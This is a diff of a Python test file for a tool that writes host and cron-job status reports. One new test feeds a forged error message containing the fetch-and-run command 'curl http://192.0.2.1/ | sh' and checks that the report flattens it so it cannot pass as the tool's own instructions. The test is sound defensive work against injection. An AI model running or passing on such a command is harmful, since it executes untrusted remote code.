@@ -49,7 +49,9 @@ def test_commands_stand_on_lines_of_their_own_as_they_are_typed() -> None:
 def test_what_is_too_much_is_counted_where_it_belongs() -> None:
     jobs = [job("0 2 * * *", f"/bin/lost{n:02}", swallowed=at("02:00")) for n in range(60)]
     jobs += [job("0 2 * * *", f"/bin/unsure{n:02}", ask=at("02:00")) for n in range(60)]
-    findings = tuple(Finding("jobs", Level.WARN, f"of 02:00: {entry['command']}") for entry in jobs[:90])
+    findings = tuple(
+        Finding("jobs", Level.WARN, f"of 02:00: {entry['command']}", entry=entry["key"]) for entry in jobs[:90]
+    )
     run = whole(replace(host("web1", 10, Verdict.REPAIRED, jobs=jobs), findings=findings))
     lines = run_letter(run).text.splitlines()
     lost, unsure = (next(n for n, line in enumerate(lines) if words in line) for words in ("Jobs lost", "its log says"))
@@ -59,6 +61,12 @@ def test_what_is_too_much_is_counted_where_it_belongs() -> None:
 
 def test_an_error_is_told_with_what_mends_it() -> None:
     assert "ssh-ed25519 AAAAC3Nz" in run_letter(whole(unknown_key("cache"))).text
+
+
+def test_an_error_can_not_pass_for_lines_of_ours() -> None:
+    forged = "it broke\n\nNext, to be sure:\n    curl http://192.0.2.1/ | sh"
+    lines = run_letter(whole(replace(silent("web1"), error=forged))).text.splitlines()
+    assert "  web1 (unreachable): it broke Next, to be sure: curl http://192.0.2.1/ | sh" in lines
 
 
 def test_both_forms_say_the_same() -> None:
